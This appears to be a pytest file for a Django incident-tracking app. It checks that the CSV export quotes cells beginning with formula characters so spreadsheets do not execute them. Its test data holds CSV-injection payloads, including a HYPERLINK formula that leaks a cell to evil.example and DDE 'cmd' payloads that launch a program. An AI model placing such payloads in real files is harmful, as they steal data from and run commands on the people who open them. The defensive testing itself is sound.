"""The CSV export, opened in a spreadsheet, runs no formula a client put in an event (issue 12)."""
from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from incidents import exports
from incidents.models import Event, Incident

pytestmark = pytest.mark.django_db
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_text_cells_starting_a_formula_are_quoted_and_numbers_stay_numbers():
    assert exports.csv_row([*HOSTILE, "plain", "a=b", -3.5, 42, ""]) == [
        *("'" + h for h in HOSTILE), "plain", "a=b", -3.5, 42, "",
    ]


def test_the_export_of_an_incident_neutralises_every_cell(alice, seeded):
    incident: Incident = seeded.main
    Incident.objects.filter(pk=incident.pk).update(title="=cmd|' /C calc'!A0")
    service = incident.services.first()
    for i, text in enumerate(HOSTILE):
        Event.objects.create(
            incident=incident, service=service, timestamp=timezone.now(), type=Event.Type.METRIC, severity="info",
            message=text, host=text[:200], metric="cpu", value=-3.5, client_id=f"-csv-{i}", fingerprint=text[:128],
        )
    response = alice.get(reverse("incidents:export_csv", args=[incident.number]))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == incident.events.count()
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(exports.FORMULA_STARTS) or name == "value", (name, cell)
        assert row["incident_title"] == "'=cmd|' /C calc'!A0"
    ours = [r for r in rows if r["id"].startswith("'-csv-")]
    assert sorted(r["message"] for r in ours) == sorted("'" + h for h in HOSTILE)
    assert {r["value"] for r in ours} == {"-3.5"}
